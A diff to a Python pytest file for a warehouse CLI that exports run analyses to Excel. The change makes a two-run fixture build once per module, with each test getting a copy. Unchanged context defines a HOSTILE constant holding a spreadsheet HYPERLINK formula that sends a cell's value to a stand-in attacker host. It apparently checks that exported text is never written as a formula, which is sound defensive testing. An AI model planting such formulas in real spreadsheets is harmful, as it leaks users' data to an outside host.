@@ -5,8 +5,10 @@ every text a string (never a formula), a write it cannot do in one line."""
 import json
 
 import pytest
+from click.testing import CliRunner
 from openpyxl import load_workbook
 
+from tests.built_once import copy_of
 from tests.diagnosis import cluster as synth
 from warehouse import db
 from warehouse.cli import cli
@@ -19,18 +21,25 @@ CHAPTERS = ["Summary", "Steps", "Step percentiles", "Pipeline coverage", "Step c
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-@pytest.fixture
-def two_runs(runner, warehouse_path):
+@pytest.fixture(scope="module")
+def two_runs_built(tmp_path_factory):
     """Two runs in one warehouse, analysed: ``base`` (rank 3 slow, rank 1's memory high), ``next``
-    (rank 5's allreduce of step 2 slow)."""
-    conn = db.connect(warehouse_path)
+    (rank 5's allreduce of step 2 slow). Built once (the analysis takes seconds): tests take a copy."""
+    path = tmp_path_factory.mktemp("two-runs") / "warehouse.db"
+    conn = db.connect(path)
     load_rules(conn)
     synth.build(conn, run="base", slow_rank=3, memory_rank=1)
     synth.build(conn, run="next", slow_collective=(2, 5))
     conn.close()
-    result = runner.invoke(cli, ["analyze", "--db", str(warehouse_path)])
+    result = CliRunner().invoke(cli, ["analyze", "--db", str(path)])
     assert result.exit_code == 0, result.output
-    return warehouse_path
+    return path
+
+
+@pytest.fixture
+def two_runs(two_runs_built, warehouse_path):
+    """This test's copy of the two analysed runs (it may write it)."""
+    return copy_of(two_runs_built, warehouse_path)
 
 
 def workbook(runner, warehouse, out):
